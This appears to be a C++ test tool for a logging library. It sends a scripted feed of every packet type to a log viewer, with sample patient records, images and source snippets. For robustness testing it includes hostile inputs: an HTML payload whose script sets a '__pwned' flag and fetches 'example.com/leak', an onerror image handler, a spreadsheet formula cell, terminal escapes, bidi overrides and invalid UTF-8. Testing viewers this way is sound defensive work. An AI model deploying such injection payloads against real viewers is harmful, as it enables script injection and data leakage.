#include "tests/tools/view_feed/feed.h"

#include <chrono>
#include <map>
#include <mutex>
#include <ostream>
#include <thread>
#include <vector>

#include "logging/base/string_list.h"
#include "logging/core/logger.h"
#include "logging/core/session.h"
#include "logging/packets/viewer_context.h"
#include "logging/system/clock.h"
#include "tests/tools/view_feed/images.h"

namespace deruz::silog::feed {

using namespace deruz::logging;

namespace {

// A JSON string of the script's own plain texts.
std::string Quote(const std::string& AText) {
    std::string out = "\"";
    for (const char c : AText) {
        if (c == '"' || c == '\\') out += '\\';
        out += c;
    }
    return out + "\"";
}

// Counts what the logger sends, by kind and type, through its events.
class TCounter {
  public:
    void Attach(TSiLogger& ALogger) {
        ALogger.SetOnLogEntry([this](TSiLogger&, TSiLogEntry& e) {
            std::lock_guard guard(FLock);
            ++FKinds["LogEntry"];
            ++FEntryTypes[std::string(SiLogEntryTypeString(e.LogEntryType))];
            ++FViewers[std::string(SiViewerIdString(e.ViewerId))];
            ++FRowsSinceClear;
        });
        ALogger.SetOnWatch([this](TSiLogger&, TSiWatch& w) {
            std::lock_guard guard(FLock);
            ++FKinds["Watch"];
            ++FWatchTypes[std::string(SiWatchTypeString(w.WatchType))];
            FWatchValues[w.Name] = w.Value;
        });
        ALogger.SetOnProcessFlow([this](TSiLogger&, TSiProcessFlow& f) {
            std::lock_guard guard(FLock);
            ++FKinds["ProcessFlow"];
            ++FFlowTypes[std::string(SiProcessFlowTypeString(f.ProcessFlowType))];
        });
        ALogger.SetOnControlCommand([this](TSiLogger&, TSiControlCommand& c) {
            std::lock_guard guard(FLock);
            ++FKinds["ControlCommand"];
            ++FCommands[std::string(SiControlCommandTypeString(c.ControlCommandType))];
            if (c.ControlCommandType == ccClearLog || c.ControlCommandType == ccClearAll) {
                FRowsSinceClear = 0;
            }
            ++FRowsSinceClear;
            if (c.ControlCommandType == ccClearWatches || c.ControlCommandType == ccClearAll) {
                FWatchValues.clear();
            }
        });
    }

    std::string Json(const std::string& AExtra) const {
        std::lock_guard guard(FLock);
        const auto object = [](const std::map<std::string, std::uint64_t>& AValues) {
            std::string out = "{";
            for (const auto& [name, count] : AValues) {
                if (out.size() > 1) out += ',';
                out += "\"" + name + "\":" + std::to_string(count);
            }
            return out + "}";
        };
        std::string watches = "{";
        for (const auto& [name, value] : FWatchValues) {
            if (watches.size() > 1) watches += ',';
            watches += Quote(name) + ":" + Quote(value);
        }
        watches += "}";
        return "{\"packets\":" + object(FKinds) + ",\"logEntryType\":" + object(FEntryTypes) +
               ",\"viewerId\":" + object(FViewers) + ",\"watchType\":" + object(FWatchTypes) +
               ",\"processFlowType\":" + object(FFlowTypes) +
               ",\"controlCommandType\":" + object(FCommands) +
               ",\"rowsAfterLastClear\":" + std::to_string(FRowsSinceClear) +
               ",\"watches\":" + watches + AExtra + "}";
    }

  private:
    mutable std::mutex FLock;
    std::map<std::string, std::uint64_t> FKinds, FEntryTypes, FViewers, FWatchTypes, FFlowTypes,
        FCommands;
    std::map<std::string, std::string> FWatchValues;
    std::uint64_t FRowsSinceClear = 0;
};

// A patient record for the inspector.
class TPatient : public ISiLoggable {
  public:
    void GetProperties(std::vector<TSiLoggableProperty>& AProperties) const override {
        AProperties.push_back({"Name", "Erika Mustermann"});
        AProperties.push_back({"Born", "1964-08-12"});
        AProperties.push_back({"Id", "7"});
        AProperties.push_back({"Insurance", "AOK <Bayern> & \"partners\""});
    }
    void GetEvents(std::vector<TSiLoggableEvent>& AEvents) const override {
        AEvents.push_back({"OnChange", nullptr, "", nullptr});
    }
};

// A small result set for the table viewer.
class TAppointments : public ISiDataSet {
  public:
    std::vector<TSiFieldDef> FieldDefs() const override {
        return {{"Id", "Integer", 4},
                {"Patient", "String", 40},
                {"Time", "DateTime", 8},
                {"Note", "String", 200}};
    }
    void First() override { FRow = 0; }
    bool Eof() const override { return FRow >= 3; }
    void Next() override { ++FRow; }
    std::optional<std::string> FieldValue(std::size_t AIndex) const override {
        static const char* const kRows[3][4] = {
            {"1", "Erika Mustermann", "2026-12-11 09:00", "check-up"},
            {"2", "Max \"Maxi\" Muster", "2026-12-11 09:30", "x-ray, upper jaw"},
            {"3", "=HYPERLINK(\"http://example.com\")", "2026-12-11 10:00", ""},
        };
        if (AIndex == 3 && FRow == 2) return std::nullopt;
        return kRows[FRow][AIndex];
    }
    std::int64_t GetBookmark() const override { return FRow; }
    void GotoBookmark(std::int64_t ABookmark) override { FRow = static_cast<int>(ABookmark); }

  private:
    int FRow = 0;
};

TSiMemoryStream Bytes(const void* AData, std::size_t ASize) {
    TSiMemoryStream stream;
    stream.Write(AData, ASize);
    return stream;
}

// A placeable Windows metafile that draws one rectangle.
std::vector<std::uint8_t> Metafile() {
    std::vector<std::uint8_t> out;
    const auto word = [&](std::uint16_t v) {
        out.push_back(static_cast<std::uint8_t>(v));
        out.push_back(static_cast<std::uint8_t>(v >> 8));
    };
    const auto dword = [&](std::uint32_t v) {
        word(static_cast<std::uint16_t>(v));
        word(static_cast<std::uint16_t>(v >> 16));
    };
    dword(0x9AC6CDD7);  // placeable header
    word(0);
    word(0), word(0), word(100), word(100);  // bounding box
    word(1440);
    dword(0);
    std::uint16_t checksum = 0;
    for (std::size_t i = 0; i < out.size(); i += 2) {
        checksum ^= static_cast<std::uint16_t>(out[i] | (out[i + 1] << 8));
    }
    word(checksum);
    word(1), word(9), word(0x0300);  // metafile header
    dword(19);                       // size in words
    word(0);
    dword(7);  // largest record
    word(0);
    dword(7), word(0x041B), word(90), word(90), word(10), word(10);  // rectangle
    dword(3), word(0);                                               // end of file
    return out;
}

void Script(TSiLogger& ALogger) {
    TSiSession& main = *ALogger.AddSession("Main");
    TSiSession& images = *ALogger.AddSession("Images");
    images.SetColor(0xC0F0FF);  // a light yellow background (0x00BBGGRR)
    TSiSession& hostile = *ALogger.AddSession("Hostile");

    // Every control command, first, so that what follows stays visible.
    main.LogMessage("before ClearLog");
    main.WatchString("before.clear", "gone after ClearWatches");
    main.EnterMethod("Before.Clear");
    main.ClearLog();
    main.LogMessage("after ClearLog");
    main.ClearWatches();
    main.ClearProcessFlow();
    main.ClearAutoViews();
    main.LogMessage("before ClearAll");
    main.ClearAll();

    main.EnterProcess("view-feed.exe");
    main.EnterMethod("Main.Run");
    main.LogDebug("debug: cache lookup for patient 7");
    main.LogVerbose("verbose: 3 rows read from appointments");
    main.LogMessage("Patient 7 opened");
    main.LogWarning("Image server answered slowly (1.8 s)");
    main.LogError("Cannot open x-ray 42: file is locked");
    main.LogFatal("Imaging application is gone");
    main.LogInternalError("internal error: a deliberate one, for the viewer");
    main.SendCustomLogEntry("a comment from the operator", ltComment, viTitle, nullptr);
    main.LogInteger("count", 42, true);
    main.LogString("user", "Dr. Zahn");
    main.LogBoolean("connected", true);
    main.LogDouble("ratio", 0.75);
    main.AddCheckpoint();
    main.AddCheckpoint("stage", "images loaded");
    main.LogConditional(true, "condition held: 2 images");
    main.LogAssert(false, "assertion failed: exposure > 0");
    main.LogColored(0x0000FF, "coloured red");
    main.LogColored(0x00A000, "coloured green");
    main.LogSeparator();
    main.ResetCallstack();

    main.LogText("plain text", "first line\r\nsecond line with <b>no markup</b>\r\n\ttabbed\r\n");
    struct TSource {
        TSiSourceId Id;
        const char* Title;
        const char* Text;
    };
    const TSource sources[] = {
        {siHtml, "HTML source", "<!DOCTYPE html>\n<p class=\"x\">Hello &amp; welcome</p>\n"},
        {siJavaScript, "JavaScript source",
         "function add(a, b) {\n  // sum\n  return a + b; /* done */\n}\n"},
        {siVbScript, "VBScript source", "Dim x\nx = 5 ' five\nMsgBox \"x = \" & x\n"},
        {siPerl, "Perl source", "my $n = 3; # three\nprint \"n=$n\\n\" for 1..$n;\n"},
        {siSql, "SQL source",
         "SELECT p.id, p.name FROM patients p\nWHERE p.born < '1970-01-01' -- old\n"},
        {siIni, "INI source", "; settings\n[Link]\nDetectOndarix=1\nPath=C:\\Program Files\n"},
        {siPython, "Python source",
         "def f(x):\n    \"\"\"double\"\"\"\n    return 2 * x  # twice\n"},
        {siXml, "XML source",
         "<?xml version=\"1.0\"?>\n<patient id=\"7\"><name>Erika</name></patient>\n"},
    };
    for (const auto& s : sources) main.LogSource(s.Title, s.Text, s.Id);
    main.LogHtml("web content that tries to run script and fetch",
                 "<html><body><h1>Report</h1><p id=\"p\">static text</p>"
                 "<script>window.parent.__pwned=1;window.__pwned=1;"
                 "fetch('http://example.com/leak?x=1');</script>"
                 "<img src=\"http://example.com/track.png\" onerror=\"window.parent.__pwned=1\">"
                 "<iframe src=\"http://example.com/\"></iframe></body></html>");
    std::vector<std::uint8_t> all(256);
    for (int i = 0; i < 256; ++i) all[i] = static_cast<std::uint8_t>(i);
    TSiMemoryStream binary = Bytes(all.data(), all.size());
    main.LogBinaryStream("bytes 0 to 255", &binary);

    TSiMemoryStream bitmap = Bytes(kBitmap, sizeof kBitmap);
    images.LogBitmapStream("an 8x8 bitmap", &bitmap);
    TSiMemoryStream jpeg = Bytes(kJpeg, sizeof kJpeg);
    images.LogJpegStream("a 16x16 JPEG", &jpeg);
    TSiMemoryStream icon = Bytes(kIcon, sizeof kIcon);
    images.LogIconStream("a 16x16 icon", &icon);
    const auto wmf = Metafile();
    TSiMemoryStream metafile = Bytes(wmf.data(), wmf.size());
    images.LogMetafileStream("a metafile with a rectangle", &metafile);

    TSiStringList list;
    list.Add("first item");
    list.Add("second <item>");
    list.Add("third item");
    main.LogStringList("a list", &list);
    TSiValueListViewerContext values;
    values.AppendKeyValue("host", "PC-17");
    values.AppendKeyValue("port", std::int32_t{4228});
    values.AppendKeyValue("a=b", "x\\y");
    main.LogCustomContext("a value list", ltText, &values);
    TPatient patient;
    main.LogObject("patient object", &patient);
    TAppointments appointments;
    main.LogDataSet("appointments", &appointments);
    main.LogDataSetSchema("appointments schema", &appointments);
    main.LogSystem();
    main.LogMemoryStatistic();

    // Nested flow on this thread, and a worker thread with its own.
    main.EnterMethod("Images.Load");
    images.LogMessage("loading 2 images");
    main.EnterMethod("Images.Decode");
    main.LeaveMethod("Images.Decode");
    main.LeaveMethod("Images.Load");
    std::thread worker([&] {
        main.EnterThread("Worker");
        main.EnterMethod("Worker.Process");
        main.LogMessage("worker processing");
        main.EnterMethod("Worker.Step");
        main.LeaveMethod("Worker.Step");
        main.LeaveMethod("Worker.Process");
        main.LeaveThread("Worker");
    });
    worker.join();

    // Watches of every type; the numeric ones change several times.
    main.WatchChar("grade", 'A');
    main.WatchString("status", "ready");
    main.WatchBoolean("online", true);
    main.WatchPointer("buffer", reinterpret_cast<const void*>(std::uintptr_t{0x1234ABCD}));
    main.WatchDateTime("started", TDateTime{46367.5});
    main.SendCustomWatch("patient", "Patient#7", wtObject);
    for (int i = 1; i <= 10; ++i) {
        main.WatchInteger("counter", i * i);
        main.WatchDouble("temperature", 36.5 + i * 0.1);
        std::this_thread::sleep_for(std::chrono::milliseconds(2));
    }
    main.WatchBoolean("online", false);
    main.IncCounter("requests");
    main.IncCounter("requests");

    // Hostile titles: markup, a script end, a direction override, control characters, bytes
    // that are not UTF-8, and a title of a megabyte.
    hostile.LogMessage(kHostileImage);
    hostile.LogWarning(kHostileScript);
    hostile.LogMessage(kHostileBidi);
    hostile.LogMessage("escape \x1b[31mred\x1b[0m bell \x07 end");
    hostile.LogMessage("not utf-8: \xff\xfe\xc3 end");
    std::string huge = kHugeTitleStart;
    huge.resize(kHugeTitleSize, 'x');
    hostile.LogMessage(huge);

    main.LeaveMethod("Main.Run");
    // Left open: the viewer shows it as a scope still running.
    main.EnterMethod("Main.Idle");
    main.LogMessage("script done");
}

}  // namespace

std::string RunFeed(const TFeedOptions& AOptions, std::ostream& AErr, bool& AFailed) {
    AFailed = false;
    TSiLogger logger(AOptions.AppName);
    std::mutex errorLock;
    logger.SetOnError([&](TSiLogger&, const std::exception& e) {
        std::lock_guard guard(errorLock);
        AErr << e.what() << "\n";
        AFailed = true;
    });
    TCounter counter;
    if (AOptions.Script) counter.Attach(logger);
    try {
        logger.SetConnections(AOptions.Connections);
    } catch (const std::exception& e) {
        AErr << e.what() << "\n";
        AFailed = true;
        return "{}";
    }
    logger.SetEnabled(true);
    std::string extra;
    if (!AOptions.Control.empty()) {
        TSiSession& session = *logger.AddSession("Main");
        bool known = false;
        for (int i = ccClearLog; i <= ccClearProcessFlow; ++i) {
            const auto type = static_cast<TSiControlCommandType>(i);
            if (SiControlCommandTypeString(type) == AOptions.Control) {
                session.SendCustomControlCommand(type, nullptr);
                known = true;
            }
        }
        logger.SetEnabled(false);
        if (!known) {
            AErr << "unknown control command '" << AOptions.Control << "'\n";
            AFailed = true;
            return "{}";
        }
        return "{\"packets\":{\"ControlCommand\":1},\"controlCommandType\":{" +
               Quote(AOptions.Control) + ":1}}";
    }
    if (AOptions.Script) {
        Script(logger);
    } else {
        TSiSession& session = *logger.AddSession("Main");
        const unsigned threads = std::max(1u, AOptions.Threads);
        const std::uint64_t each = AOptions.Count / threads;
        const auto start = std::chrono::steady_clock::now();
        std::vector<std::thread> workers;
        for (unsigned t = 0; t < threads; ++t) {
            const std::uint64_t first = t * each;
            const std::uint64_t count = t + 1 == threads ? AOptions.Count - first : each;
            // Throttled: each thread keeps to its share of the rate.
            const double perThread = AOptions.Rate / threads;
            workers.emplace_back([&session, first, count, perThread, start] {
                for (std::uint64_t i = 0; i < count; ++i) {
                    if (perThread > 0) {
                        std::this_thread::sleep_until(
                            start + std::chrono::duration_cast<std::chrono::steady_clock::duration>(
                                        std::chrono::duration<double>(i / perThread)));
                    }
                    session.LogMessage("message %d", {static_cast<std::int64_t>(first + i)});
                }
            });
        }
        for (auto& w : workers) w.join();
        logger.SetEnabled(false);
        const auto ms = std::chrono::duration_cast<std::chrono::milliseconds>(
                            std::chrono::steady_clock::now() - start)
                            .count();
        return "{\"packets\":{\"LogEntry\":" + std::to_string(AOptions.Count) +
               "},\"elapsedMs\":" + std::to_string(ms) +
               ",\"dropped\":" + std::to_string(logger.DroppedPackets()) + "}";
    }
    logger.SetEnabled(false);  // writes what is buffered or queued
    extra = ",\"dropped\":" + std::to_string(logger.DroppedPackets());
    return counter.Json(extra);
}

}  // namespace deruz::silog::feed
